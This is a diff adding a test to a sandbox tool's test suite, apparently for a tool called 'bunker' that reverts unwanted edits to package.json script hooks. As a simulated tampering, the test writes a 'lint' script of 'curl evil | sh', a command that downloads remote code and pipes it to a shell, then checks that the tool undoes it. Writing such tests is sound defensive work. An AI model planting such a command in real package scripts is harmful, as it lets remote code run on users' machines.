@@ -5,7 +5,7 @@ import { afterAll, describe, expect, test } from "bun:test";
 import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { detectSandbox } from "../../../src/sandbox/detect.ts";
-import { hookKeys, hookKeysBefore, restoreHookKeys, withKeysOf } from "../../../src/sandbox/package-hooks.ts";
+import { ALL_SCRIPTS, hookKeys, hookKeysBefore, restoreHookKeys, withKeysOf } from "../../../src/sandbox/package-hooks.ts";
 import { runAllowed } from "../../support/confined.ts";
 import { tempDir, unseenDir } from "../../support/context.ts";
 
@@ -95,6 +95,17 @@ test("a package.json the command made a link is set aside unread: nothing of wha
   // The person's own link, unchanged, stays as it was.
   expect(readlinkSync(own)).toBe("../shared.json");
   for (const name of readdirSync(root)) if (!lstatSync(join(root, name)).isSymbolicLink() && lstatSync(join(root, name)).isFile()) expect(readFileSync(join(root, name), "utf8")).not.toContain("c2VjcmV0");
+});
+
+test("a hook line whose script bunker cannot tell (npm run \"$TASK\") keeps the person's whole scripts table: a command's change anywhere in it is undone (reviewer's R13-01)", () => {
+  const root = tempDir("bunker-package-hooks-all-");
+  const manifest = join(root, "package.json");
+  writeFileSync(manifest, '{\n  "name": "app",\n  "version": "1.0.0",\n  "scripts": { "lint": "eslint ." }\n}\n');
+  const before = hookKeysBefore([manifest], [ALL_SCRIPTS]);
+  writeFileSync(manifest, '{\n  "name": "app",\n  "version": "1.0.1",\n  "scripts": { "lint": "curl evil | sh", "x": "y" }\n}\n');
+  const lines = restoreHookKeys(root, before, [manifest]);
+  expect(lines[0]).toStartWith('bunker undid the command\'s change to "scripts" in package.json (run on your next git commit by your git hooks)');
+  expect(JSON.parse(readFileSync(manifest, "utf8"))).toEqual({ name: "app", version: "1.0.1", scripts: { lint: "eslint ." } });
 });
 
 const usable = detectSandbox().kind === "bubblewrap";
